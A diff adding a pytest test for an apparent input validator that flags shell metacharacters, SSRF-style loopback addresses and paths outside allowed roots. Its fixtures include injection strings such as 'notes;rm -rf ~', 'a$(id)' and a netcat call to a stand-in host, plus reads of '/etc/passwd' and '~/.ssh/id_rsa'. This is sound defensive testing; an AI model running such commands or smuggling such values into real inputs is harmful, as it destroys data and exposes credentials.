@@ -709,6 +709,35 @@ def test_nul_bytes(param: str, value: str, capsys: pytest.CaptureFixture[str]) -
     assert rules(param, value, capsys) == ["nul_byte"]
 
 
+@pytest.mark.parametrize(
+    ("name", "value", "expected"),
+    [
+        # A host holds no shell syntax, whatever splices it where (a URL's query may).
+        ("host", "x; touch PWNED", ["shell_metachar"]),
+        ("hostname", "a$(id)", ["shell_metachar"]),
+        ("server", "example.com|nc evil 1", ["shell_metachar"]),
+        ("url", "https://example.com/?a=1&b=$2", []),
+        ("host", "example.com", []),
+        # A path holds none that starts another command; `&` and `$` occur in file names.
+        ("path", "notes;rm -rf ~", ["shell_metachar"]),
+        ("filename", "a`id`.txt", ["shell_metachar"]),
+        ("filename", "Tom & Jerry $5.mp3", []),
+        # Shaped like an address or a path, whatever the parameter is called.
+        ("target", "127.0.0.1", ["ssrf"]),
+        ("q", "[::1]", ["ssrf"]),
+        ("version", "1.2.3.4", []),  # a public address: nothing to refuse
+        ("location", "/etc/passwd", ["path_outside_roots"]),
+        ("resource", "~/.ssh/id_rsa", ["path_outside_roots"]),
+        ("route", "/api/v1/users", []),  # no folder /api here: not a path
+        ("text", "/help", []),
+    ],
+)
+def test_values_are_classified_by_shape_too(
+    name: str, value: str, expected: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert rules(name, value, capsys) == expected
+
+
 def test_traversal_shaped_values_in_other_parameters(capsys: pytest.CaptureFixture[str]) -> None:
     assert rules("name", "../../etc/passwd", capsys) == ["path_traversal"]
     assert rules("text", "see ../notes for details", capsys) == []
